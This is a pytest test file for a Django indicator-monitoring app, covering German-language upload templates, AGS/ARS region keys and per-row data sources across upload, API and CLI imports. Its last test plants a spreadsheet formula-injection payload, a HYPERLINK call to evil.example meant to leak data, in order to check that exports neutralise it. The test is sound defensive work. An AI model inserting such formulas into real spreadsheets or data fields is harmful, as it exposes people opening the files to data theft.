"""The upload template (German headers, the organisation's indicators and regions) and German
column names, AGS keys and per-row sources on every import path: upload, API CSV, CLI."""

from __future__ import annotations

import io
from datetime import date

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from tests.accounts.factories import MembershipFactory, OrganisationFactory, UserFactory
from tests.workspace.jobs import follow_job
from zielwerk.accounts.services import api_token_create
from zielwerk.core.units import load_vocabulary
from zielwerk.monitoring.models import Observation
from zielwerk.workspace import services
from zielwerk.workspace.models import AuditEntry, StagedObservation, Upload

pytestmark = pytest.mark.django_db

GERMAN = ["Indikator", "Region", "Reihe", "Jahr", "Wert", "Einheit", "Quelle", "Kennzeichen"]


def select(world, organisation, user, *indicators):
    services.indicator_selection_set(
        organisation=organisation,
        user=user,
        shown=[i.pk for i in indicators],
        chosen=[i.pk for i in indicators],
    )


def template(client, world, fmt="xlsx", organisation=None):
    organisation = organisation or world.org_a
    return client.get(reverse("workspace:upload_template", args=[organisation.slug, fmt]))


def upload(client, world, name, content, source=""):
    """Post the file; the address of its preview, once the check job has run."""
    file = io.BytesIO(content)
    file.name = name
    url = reverse("workspace:upload", args=[world.org_a.slug])
    return follow_job(client, client.post(url, {"file": file, "source": source}))


def data_rows(content: bytes) -> tuple[list[str], list[list[object]]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    return [str(c) for c in rows[0]], rows[1:]


def test_template_has_german_headers_the_sets_indicators_region_and_units(client, world):
    select(world, world.org_a, world.members["admin"], world.un, world.dns)
    Observation.objects.create(
        indicator=world.un, region=world.town_a, year=2021, value=3.0, unit="percent"
    )
    client.force_login(world.members["editor"])
    response = template(client, world)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Daten", "Hinweise"]
    header, rows = data_rows(response.content)
    assert header[:8] == GERMAN
    by_indicator = {r[0]: r for r in rows}
    assert set(by_indicator) == {"7.2.1", "7.2.a"}  # the set, not 7.1.1
    assert all(r[1] == "051540004004" for r in rows)  # the town's ARS, as text
    # the year after the newest value, else the previous year; the value is left to fill
    assert by_indicator["7.2.1"][3] == 2022
    assert by_indicator["7.2.a"][3] == date.today().year - 1
    assert all(r[4] is None for r in rows)
    # the unit of its values, as the German label of the unit vocabulary
    assert by_indicator["7.2.1"][5] == load_vocabulary().label("percent", "de") == "%"
    assert by_indicator["7.2.1"][8] == world.un.title
    notes = [r[0] for r in book["Hinweise"].iter_rows(values_only=True)]
    assert set(GERMAN) <= set(notes)


def test_kreis_template_adds_gemeinden_only_for_indicators_with_gemeinde_data(client, world):
    kreis_org = OrganisationFactory(name="Kreis Kleve", slug="kreis-kleve", region=world.kreis)
    user = UserFactory(username="kreis-editor")
    MembershipFactory(organisation=kreis_org, role="editor", user=user)
    select(world, kreis_org, user, world.un, world.dns)
    Observation.objects.create(
        indicator=world.dns, region=world.town_b, year=2020, value=1.0, unit="percent"
    )
    client.force_login(user)
    _header, rows = data_rows(template(client, world, organisation=kreis_org).content)
    pairs = {(r[0], r[1]) for r in rows}
    assert pairs == {
        ("7.2.1", world.kreis.ars),  # no Gemeinde data: the Kreis only
        ("7.2.a", world.kreis.ars),
        ("7.2.a", world.town_a.ars),
        ("7.2.a", world.town_b.ars),
    }
    years = {(r[0], r[1]): r[3] for r in rows}
    assert years[("7.2.a", world.town_b.ars)] == 2021


def test_template_download_needs_the_upload_permission(client, world):
    select(world, world.org_a, world.members["admin"], world.un)
    client.force_login(world.members["viewer"])
    assert template(client, world).status_code == 403
    client.force_login(world.members["b-admin"])  # another organisation's administrator
    assert template(client, world).status_code == 403
    client.force_login(world.members["editor"])
    assert template(client, world, fmt="pdf").status_code == 404


def test_csv_template_reads_back(client, world):
    select(world, world.org_a, world.members["admin"], world.un)
    client.force_login(world.members["editor"])
    text = template(client, world, fmt="csv").content.decode("utf-8-sig")
    header, row = text.splitlines()[:2]
    assert header.split(";")[:8] == GERMAN
    assert row.startswith("7.2.1;051540004004;;")


def test_filled_template_uploads_as_drafts_with_per_row_sources(client, world):
    select(world, world.org_a, world.members["admin"], world.un, world.dns)
    client.force_login(world.members["editor"])
    book = load_workbook(io.BytesIO(template(client, world).content))
    sheet = book["Daten"]
    sheet["E2"], sheet["G2"] = 21.5, "Statistisches Landesamt"
    sheet["E3"] = 40  # no own source: the one given in the form
    out = io.BytesIO()
    book.save(out)
    preview = upload(client, world, "vorlage.xlsx", out.getvalue(), source="Klimaschutzbericht")
    item = Upload.objects.get()
    assert item.status == Upload.Status.CHECKED, client.get(preview).content.decode()
    follow_job(
        client, client.post(reverse("workspace:upload_confirm", args=[world.org_a.slug, item.pk]))
    )
    sources = dict(
        StagedObservation.objects.filter(organisation=world.org_a).values_list(
            "indicator__code", "source"
        )
    )
    first, second = sheet["A2"].value, sheet["A3"].value
    assert sources == {first: "Statistisches Landesamt", second: "Klimaschutzbericht"}
    audit = AuditEntry.objects.filter(action=AuditEntry.Action.OBSERVATION_DRAFTED)
    assert set(audit.values_list("source", flat=True)) == set(sources.values())
    # publishing keeps each row's source: attributable per value
    services.drafts_publish(
        organisation=world.org_a,
        user=world.members["admin"],
        observations=None,
        targets=None,
    )
    published = dict(Observation.objects.values_list("indicator__code", "source"))
    assert published == sources


def test_german_headers_and_ags_through_the_api_csv(client, world):
    select(world, world.org_a, world.members["admin"], world.un)
    _token, raw = api_token_create(
        organisation=world.org_a, user=world.members["editor"], name="Fachverfahren"
    )
    body = " INDIKATOR ;AGS;Jahr;Wert;Einheit;Quelle\n7.2.1;05154004;2022;10,5;Prozent;Amt 32\n"
    response = client.post(
        f"/api/v1/organisations/{world.org_a.slug}/observations",
        body.encode(),
        content_type="text/csv",
        HTTP_AUTHORIZATION=f"Bearer {raw}",
    )
    assert response.status_code == 200, response.content
    draft = StagedObservation.objects.get()
    assert (draft.region, draft.value, draft.source) == (world.town_a, 10.5, "Amt 32")


def test_an_ags_column_refuses_other_keys_naming_the_column(client, world):
    select(world, world.org_a, world.members["admin"], world.un)
    client.force_login(world.members["editor"])
    body = "Indikator,AGS,Jahr,Wert\n7.2.1,051540004004,2022,1\n7.2.1,05154999,2022,2\n"
    preview = upload(client, world, "ags.csv", body.encode())
    assert Upload.objects.get().status == Upload.Status.INVALID
    page = client.get(preview).content.decode()
    assert "Zeile 2, Spalte „AGS“, Wert „051540004004“: kein Gemeindeschlüssel (AGS)" in page
    assert not StagedObservation.objects.exists()
    body = "Indikator,AGS,Jahr,Wert\n7.2.1,05154999,2022,2\n"  # 8 digits, but no such Gemeinde
    preview = upload(client, world, "ags.csv", body.encode())
    page = client.get(preview).content.decode()
    assert "Spalte „AGS“, Wert „05154999“: unbekannte Region" in page


def test_a_file_with_region_and_region_is_refused(client, world):
    select(world, world.org_a, world.members["admin"], world.un)
    client.force_login(world.members["editor"])
    body = "indicator,region,Region,year,value\n7.2.1,051540004004,051540004004,2022,1\n"
    preview = upload(client, world, "doppelt.csv", body.encode())
    assert Upload.objects.get().status == Upload.Status.INVALID
    page = client.get(preview).content.decode()
    assert "Spalte „Region“: doppelte Spalte: meint dasselbe wie die Spalte „region“" in page
    assert not StagedObservation.objects.exists()


def test_zielwerk_import_reads_german_headers_and_row_sources(world, tmp_path):
    path = tmp_path / "werte.csv"
    path.write_text(
        "Indikator;Gebiet;Jahr;Wert;Einheit;Quelle\n"
        "7.2.1;05154004;2021;1,5;Prozent;Amt 32\n"
        "7.2.1;05154004;2022;2,5;Prozent;\n",
        encoding="utf-8",
    )
    call_command("import", str(path), "--source", "Datei", "--no-progress")
    found = dict(Observation.objects.values_list("year", "source"))
    assert found == {2021: "Amt 32", 2022: "Datei"}
    # a revision takes the row's new source, an unchanged row keeps the stored one
    path.write_text(
        "indicator;region;year;value;unit;source\n"
        "7.2.1;051540004004;2021;1,75;percentage;Amt 33\n"
        "7.2.1;051540004004;2022;2,5;percentage;Amt 33\n",
        encoding="utf-8",
    )
    call_command("import", str(path), "--source", "Datei 2", "--no-progress")
    assert dict(Observation.objects.values_list("year", "source")) == {
        2021: "Amt 33",
        2022: "Datei",
    }


def test_upload_page_lists_the_columns_in_german_with_english_names(client, world):
    client.force_login(world.members["editor"])
    page = client.get(reverse("workspace:upload", args=[world.org_a.slug])).content.decode()
    assert reverse("workspace:upload_template", args=[world.org_a.slug, "xlsx"]) in page
    assert '<th scope="row" lang="de"><code>Indikator</code></th>' in page
    assert '<td lang="en"><code>indicator</code>' in page
    assert '<code lang="de">Gebiet, ARS, AGS</code>' in page


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_template_text_cells_are_formula_safe(client, world, fmt):
    """An indicator title a spreadsheet would run as a formula arrives neutralised."""
    world.un.title_de = '=HYPERLINK("http://evil.example/?leak","Klick")'
    world.un.save()
    select(world, world.org_a, world.members["admin"], world.un)
    client.force_login(world.members["editor"])
    content = template(client, world, fmt).content
    if fmt == "xlsx":
        _, rows = data_rows(content)
        titles = [r[8] for r in rows]
    else:
        text = content.decode("utf-8-sig")
        titles = [line.split(";")[8] for line in text.splitlines()[1:] if line]
    assert titles and all(str(t).lstrip('"').startswith("'=") for t in titles), titles
